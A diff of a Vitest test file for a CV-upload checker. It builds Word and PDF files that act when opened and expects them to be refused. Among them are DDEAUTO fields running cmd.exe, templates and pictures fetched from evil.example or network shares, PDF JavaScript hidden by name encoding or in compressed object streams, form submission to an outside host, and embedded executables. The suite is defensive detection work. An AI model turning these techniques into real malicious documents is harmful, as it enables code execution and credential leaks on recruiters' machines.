@@ -1,5 +1,7 @@
+import { deflateSync } from "node:zlib";
 import { describe, expect, it } from "vitest";
 import { inspectCv } from "#app/features/applications/cv/cv-file.server.ts";
+import { compoundFileOf } from "#demo/compound-file.ts";
 import { docxOf, docxParts, pdfOf, sampleDoc, sampleDocx, samplePdf } from "#demo/sample-cv.ts";
 
 const pdf = Buffer.from(samplePdf(["Lina Halabi", "Accountant"]));
@@ -21,12 +23,22 @@ function link(type: string, target: string, encode = (xml: string) => Buffer.fro
   return word({ "word/_rels/settings.xml.rels": encode(xml) });
 }
 
-function pdfThat(acts: string): Uint8Array {
+const pdfThat = (acts: string) => pdfWith({ catalog: `/OpenAction << ${acts} >>` });
+
+function pdfWith({ catalog = "", page = "", more = [] as string[] }): Uint8Array {
   return pdfOf([
-    `<< /Type /Catalog /Pages 2 0 R /OpenAction << ${acts} >> >>`,
+    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
     "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
+    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] ${page} >>`,
+    ...more,
   ]);
+}
+
+/** An object stream, where objects are compressed. */
+function packed(number: number, object: string): string {
+  const head = `${number} 0 `;
+  const data = deflateSync(Buffer.from(head + object)).toString("latin1");
+  return `<< /Type /ObjStm /N 1 /First ${head.length} /Filter /FlateDecode /Length ${data.length} >>\nstream\n${data}\nendstream`;
 }
 
 const evil = "http://evil.example/t.dotm";
@@ -73,7 +85,7 @@ describe("a CV that is more than a CV", () => {
       link(`${office}/attachedTemplate`, evil, (xml) => wide(xml).swap16()),
       link(`${office}/aFChunk`, "http://evil.example/page.html"),
     ]) {
-      expect(await verdict(bytes, "cv.docx")).toBe("cvUnsafe");
+      expect(await verdict(bytes, "cv.docx")).toBe("cvActs");
     }
     expect(await verdict(link(`${office}/hyperlink`, "https://a.example/&#120;"), "cv.docx")).toBe(
       "accepted",
@@ -100,14 +112,168 @@ describe("a CV that is more than a CV", () => {
     ]) {
       expect(await verdict(pdfThat(acts), "cv.pdf"), acts).toBe("cvUnsafe");
     }
-    expect(await verdict(pdfThat("/S /Launch /F (certificates.pdf)"), "cv.pdf")).toBe("accepted");
-    expect(await verdict(pdfThat("/S /JavaScript /JS (app.alert\\(1\\))"), "cv.pdf")).toBe(
-      "accepted",
-    );
+    const linked = pdfWith({ page: "/Annots [<< /A << /S /Launch /F (certificates.pdf) >> >>]" });
+    expect(await verdict(linked, "cv.pdf")).toBe("accepted");
   });
 
   it("APPLY-03 actions by the hundred thousand do not hold the others up", async () => {
     const many = `/S /Launch ${"(".repeat(700)}\n`.repeat(6000);
     expect(await verdict(pdfThat(many), "cv.pdf")).toBe("cvUnsafe");
+  });
+});
+
+const paragraph = (content: string) =>
+  word({
+    "word/document.xml":
+      parts["word/document.xml"]?.replace("<w:body>", `<w:body>${content}`) ?? "",
+  });
+const field = (...pieces: string[]) =>
+  paragraph(
+    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces.map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`).join("")}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
+  );
+const simpleField = (instruction: string) =>
+  paragraph(`<w:p><w:fldSimple w:instr="${instruction}"/></w:p>`);
+const oldFile = (content: string) =>
+  compoundFileOf({
+    WordDocument: Buffer.concat([wordHead, Buffer.from(content, "latin1")]),
+    "1Table": Buffer.alloc(64),
+  });
+const wordHead = Buffer.alloc(4096);
+wordHead.writeUInt16LE(0xa5ec, 0);
+wordHead.writeUInt16LE(0xc1, 2);
+wordHead.writeUInt16LE(0x0200, 0x0a);
+
+describe("A6 a CV that acts when it is opened", () => {
+  const share = "\\\\evil\\share";
+  it.each<[string, Uint8Array]>([
+    ["a picture on a share", link(`${office}/image`, "file://evil/share/x.png")],
+    ["a picture on a share, in Windows' spelling", link(`${office}/image`, `${share}\\x.png`)],
+    ["a picture in the web", link(`${office}/image`, "http://evil.example/x.png")],
+    ["a video", link(`${office}/video`, "https://evil.example/x.mp4")],
+    ["sound", link(`${office}/audio`, "file:////evil/x.wav")],
+    ["a table of another file", link(`${office}/externalLink`, `file:///${share}`)],
+    ["a kind of link that nobody knows yet", link(`${office}/later`, "http://evil.example")],
+    ["a DDE field", field('DDEAUTO c:\\windows\\cmd.exe "/k calc"')],
+    ["a DDE field in pieces", field("DD", "EAUTO c:\\cmd.exe")],
+    ["a DDE field in one tag", simpleField("DDE excel sheet r1c1")],
+    ["a DDE field in numbers", field("&#68;DEAUTO c:\\cmd.exe")],
+    ["a text from a share", field('INCLUDETEXT "\\\\\\\\evil\\\\share\\\\x"')],
+    ["a picture that is not stored", field('INCLUDEPICTURE "http://evil.example/x.png" \\d')],
+    [
+      "a file in an object",
+      word({
+        "word/embeddings/oleObject1.bin": compoundFileOf({ "\x01Ole10Native": Buffer.alloc(64) }),
+      }),
+    ],
+    ["a program among its parts", word({ "word/media/image1.png": "MZ\x90\0" })],
+  ])("a docx with %s is refused", async (_, bytes) => {
+    expect(await verdict(bytes, "cv.docx")).toBe("cvActs");
+  });
+
+  it.each<[string, Uint8Array]>([
+    ["links that a person presses", link(`${office}/hyperlink`, "https://linkedin.example/rima")],
+    ["a link to a file", link(`${office}/hyperlink`, "file:///C:/letter.docx")],
+    [
+      "the template of its writer's computer",
+      link(`${office}/attachedTemplate`, "file:///C:/cv.dotx"),
+    ],
+    ["a picture's path on its writer's computer", link(`${office}/image`, "file:///C:/me.png")],
+    ["fields", field("HYPERLINK ", '"https://a.example"')],
+    ["page numbers, and the word dde", field("PAGE")],
+    [
+      "a stored picture from a page",
+      field('INCLUDEPICTURE "http://a.example/x.png" \\* MERGEFORMATINET'),
+    ],
+  ])("a docx with %s is taken", async (_, bytes) => {
+    expect(await verdict(bytes, "cv.docx")).toBe("accepted");
+  });
+
+  it.each([
+    ["\x13 DDEAUTO c:\\cmd.exe \x14\x15", "cvActs"],
+    ['\x13 INCLUDETEXT "http://evil.example/x" \x15', "cvActs"],
+    [Buffer.from("\x13 DDE excel x\x14", "utf16le").toString("latin1"), "cvActs"],
+    ['\x13 HYPERLINK "http://a.example" \x14 Dde \x15', "accepted"],
+  ])("an old Word file with %j is %s", async (content, expected) => {
+    expect(await verdict(oldFile(content), "cv.doc")).toBe(expected);
+  });
+
+  const script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
+  const outside = pdfOf([
+    "<< /Type /Catalog /Pages 2 0 R >>",
+    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
+    "<< /Length 0 /F (//evil/share/x) >>\nstream\n\nendstream",
+  ]);
+  const attached = (name: string) =>
+    pdfWith({
+      catalog: "/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>",
+      more: [`<< /Type /Filespec /F (${name}) /UF (${name}) /EF << /F 5 0 R >> >>`],
+    });
+  it.each<[string, Uint8Array]>([
+    ["a script", pdfThat("/S /JavaScript /JS (app.alert\\(1\\))")],
+    ["a script in other letters", pdfThat("/S /Java#53cript /#4aS (1)")],
+    ["a form that is sent", pdfThat("/S /SubmitForm /F (http://evil.example)")],
+    ["a page of the web", pdfThat("/S /URI /URI (http://evil.example)")],
+    ["data from a file", pdfThat("/S /ImportData /F (x.fdf)")],
+    ["another file", pdfThat("/S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit]")],
+    ["a file in it", pdfThat("/S /GoToE /F (\\\\\\\\evil) /D [0 /Fit]")],
+    ["a launched document", pdfThat("/S /Launch /F (certificates.pdf)")],
+    ["a script after a place", pdfThat(`/S /GoTo /D [3 0 R /Fit] /Next ${script}`)],
+    ["a script by reference", pdfWith({ catalog: "/OpenAction 4 0 R", more: [script] })],
+    ["a packed script", pdfWith({ catalog: "/OpenAction 9 0 R", more: [packed(9, script)] })],
+    ["a packed catalog", pdfWith({ more: [packed(9, `<< /OpenAction ${script} >>`)] })],
+    ["a script of a page", pdfWith({ page: `/AA << /O ${script} >>` })],
+    [
+      "a script of the whole file",
+      pdfWith({ catalog: "/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", more: [script] }),
+    ],
+    ["a stream in another file", outside],
+    ["a program in it", attached("cv.exe")],
+    ["a macro document in it", attached("cv.docm")],
+    [
+      "a file without a name in it",
+      pdfWith({ more: ["<< /Type /Filespec /EF << /F 5 0 R >> >>"] }),
+    ],
+  ])("a PDF with %s is refused", async (_, bytes) => {
+    expect(await verdict(bytes, "cv.pdf")).toBe("cvActs");
+  });
+
+  it.each<[string, Uint8Array]>([
+    ["a place to open at", pdfThat("/S /GoTo /D [3 0 R /XYZ null null 0]")],
+    ["a place alone", pdfWith({ catalog: "/OpenAction [3 0 R /Fit]" })],
+    [
+      "a place on a page with links",
+      pdfWith({
+        catalog: "/OpenAction << /S /GoTo /D [3 0 R /Fit] >>",
+        page: "/Annots [4 0 R]",
+        more: ["<< /Subtype /Link /A << /S /URI /URI (https://linkedin.example) >> >>"],
+      }),
+    ],
+    [
+      "a link to another file, for a person to press",
+      pdfWith({ page: "/Annots [<< /A << /S /GoToR /F (letter.pdf) >> >>]" }),
+    ],
+    [
+      "scripts of a form's field",
+      pdfWith({ page: `/Annots [<< /AA << /K ${script} /F ${script} >> >>]` }),
+    ],
+    ["the data of a Europass CV", attached("europass.xml")],
+    [
+      "a font called AA",
+      pdfWith({
+        page: "/Resources << /Font << /AA 4 0 R /F 4 0 R >> >>",
+        more: ["<< /Type /Font /Subtype /Type1 /BaseFont /AAAAAA+Arial >>"],
+      }),
+    ],
+  ])("a PDF with %s is taken", async (_, bytes) => {
+    expect(await verdict(bytes, "cv.pdf")).toBe("accepted");
+  });
+
+  it("triggers by the hundred thousand do not hold the others up", async () => {
+    const many = "/AA << /O 4 0 R >> ".repeat(200_000);
+    const began = performance.now();
+    await verdict(pdfWith({ page: many }), "cv.pdf");
+    await verdict(pdfWith({ page: "/EF << ".repeat(200_000) }), "cv.pdf");
+    expect(performance.now() - began).toBeLessThan(5000);
   });
 });
